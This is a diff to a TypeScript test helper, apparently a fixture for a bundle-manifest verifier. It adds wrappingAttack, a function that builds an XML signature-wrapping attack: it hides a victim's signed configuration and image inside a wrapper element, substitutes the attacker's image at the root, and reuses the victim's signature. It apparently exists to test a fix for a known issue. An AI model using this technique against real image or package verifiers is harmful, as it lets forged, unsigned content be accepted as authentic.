@@ -105,3 +105,30 @@ export function craftBundle(dir: string, name: string, tar: Buffer, opts: CraftO
   fs.writeFileSync(manifestPath, xml);
   return manifestPath;
 }
+
+function between(doc: string, open: string, close: string): string {
+  const start = doc.indexOf(open);
+  return doc.slice(start, doc.indexOf(close, start) + close.length);
+}
+
+/**
+ * The signature-wrapping attack of issue 11: the victim's legitimately signed
+ * machine_configuration and image hidden inside `wrapper` (an unknown element by default), the
+ * attacker's own image at the root, and the victim's signature.
+ */
+export function wrappingAttack(victimXml: string, attackerXml: string, wrapper = 'wrapper'): string {
+  const signedPair =
+    between(victimXml, '<machine_configuration>', '</machine_configuration>') +
+    between(victimXml, '<image>', '</image>');
+  const signature = between(victimXml, '<signature>', '</signature>');
+  const hidden =
+    wrapper === 'bundler'
+      ? between(attackerXml, '<bundler>', '</bundler>').replace('</bundler>', `${signedPair}</bundler>`)
+      : `${between(attackerXml, '<bundler>', '</bundler>')}<${wrapper}>${signedPair}</${wrapper}>`;
+  return (
+    `<?xml version='1.0'?><manifest><version>2007-10-10</version>${hidden}` +
+    between(attackerXml, '<machine_configuration>', '</machine_configuration>') +
+    between(attackerXml, '<image>', '</image>') +
+    `${signature}</manifest>`
+  );
+}
